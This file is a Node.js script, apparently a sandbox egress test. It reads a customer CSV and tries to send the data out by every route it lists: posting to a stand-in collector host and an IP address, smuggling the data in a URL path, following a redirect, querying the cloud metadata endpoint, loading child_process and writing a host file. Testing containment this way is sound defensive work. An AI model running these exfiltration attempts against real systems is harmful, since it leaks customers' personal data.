// A report with something else on its mind: every way out that it knows, once each.
import { readFileSync, writeFileSync } from 'node:fs';

const base = process.argv[2] ?? 'http://localhost:8080';
const rows = readFileSync('/data/customers.csv', 'utf8');
const loot = Buffer.from(rows).toString('base64url');

console.log('rate:', await (await fetch(`${base}/rates/eur`)).text());

const post = (url) => fetch(url, { method: 'POST', body: rows });
const ways = {
  'post to a collector': () => post('https://collector.example/in'),
  'an address in place of a name': () => post('http://203.0.113.7/in'),
  'in a path that is not granted': () => fetch(`${base}/other/${loot}`),
  'with another method': () => post(`${base}/rates/eur`),
  'by a redirect of the granted host': () => fetch(`${base}/rates/moved`),
  'over the cloud\'s metadata': () => fetch('http://169.254.169.254/latest/meta-data'),
  'with another program': () => import('node:child_process'),
  'into a file of the host': () => writeFileSync('/data/out.txt', rows),
};

for (const [way, attempt] of Object.entries(ways)) {
  try {
    await attempt();
    console.log(`${way}: OUT`);
  } catch (error) {
    console.log(`${way}: ${(error.cause ?? error).code}`);
  }
}
